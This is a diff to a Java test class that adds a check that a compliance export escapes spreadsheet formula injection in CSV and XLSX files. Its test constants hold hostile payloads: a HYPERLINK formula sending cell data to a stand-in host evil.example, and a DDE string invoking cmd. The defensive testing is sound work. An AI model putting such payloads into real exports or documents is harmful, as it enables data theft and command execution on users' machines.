@@ -51,6 +51,9 @@ class ExportResourceTest {
     private static final String AWKWARD = "Siti \"Ani\", S.Kom";
     private static final String MULTILINE = "Budi\nSantoso";
     private static final String NON_ASCII = "Dewi Ñoman ꦱꦶꦠꦶ";
+    private static final String HOSTILE_NAME = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Budi\")";
+    private static final String HOSTILE_MINUS = "-2+3+cmd|' /C calc'!A0";
+    private static final String HOSTILE_UNIT = "@SUM(1+1) Bidang ";
 
     @ConfigProperty(name = "kafka.bootstrap.servers")
     String bootstrapServers;
@@ -199,6 +202,39 @@ class ExportResourceTest {
                 .get("/api/v1/exports/compliance").then().statusCode(200).extract().asString(), ',');
 
         assertThat(rows.subList(1, rows.size() - 1)).extracting(row -> row.get(2)).containsOnly(child).hasSize(2);
+    }
+
+    @Test
+    void neutralisesNamesASpreadsheetWouldRunAsFormulasInCsvAndXlsx() throws IOException {
+        String run = UUID.randomUUID().toString().substring(0, 8);
+        String unit = "INJ-" + run;
+        events.unit(unit, HOSTILE_UNIT + run, 1);
+        employee(HOSTILE_NAME, unit, "2", null);
+        employee(HOSTILE_MINUS, unit, null, null);
+        // A subject of its own, so this test's exports use no other test's allowance.
+        String reader = TestTokens.bearer(Token.withRoles(Access.REPORT_READER).units(Access.ALL_UNITS)
+                .subject("formula-" + run));
+
+        List<List<String>> rows = CsvRows.parse(given().header("Authorization", reader)
+                .get("/api/v1/exports/compliance?unitCode=" + unit).then().statusCode(200).extract().asString(), ',');
+        List<List<String>> data = rows.subList(1, rows.size() - 1);
+        assertThat(data).extracting(row -> row.get(1)).containsExactlyInAnyOrder("'" + HOSTILE_NAME,
+                "'" + HOSTILE_MINUS);
+        assertThat(data).extracting(row -> row.get(3)).containsOnly("'" + HOSTILE_UNIT + run);
+        assertThat(data).extracting(row -> row.get(7)).containsExactlyInAnyOrder("2", "0");
+
+        byte[] workbook = given().header("Authorization", reader)
+                .get("/api/v1/exports/compliance?unitCode=" + unit + "&format=xlsx").then().statusCode(200).extract()
+                .asByteArray();
+        try (ReadableWorkbook read = new ReadableWorkbook(new ByteArrayInputStream(workbook))) {
+            List<Row> sheet = read.getFirstSheet().read().subList(1, 3);
+            assertThat(sheet.stream().map(row -> row.getCell(1).asString()))
+                    .containsExactlyInAnyOrder("'" + HOSTILE_NAME, "'" + HOSTILE_MINUS);
+            assertThat(sheet.stream().map(row -> row.getCell(3).asString())).containsOnly("'" + HOSTILE_UNIT + run);
+            assertThat(sheet.stream().map(row -> row.getCell(7).asNumber()))
+                    .usingElementComparator(BigDecimal::compareTo).containsExactlyInAnyOrder(new BigDecimal("2"),
+                            BigDecimal.ZERO);
+        }
     }
 
     private static Response export(String kind, String query) {
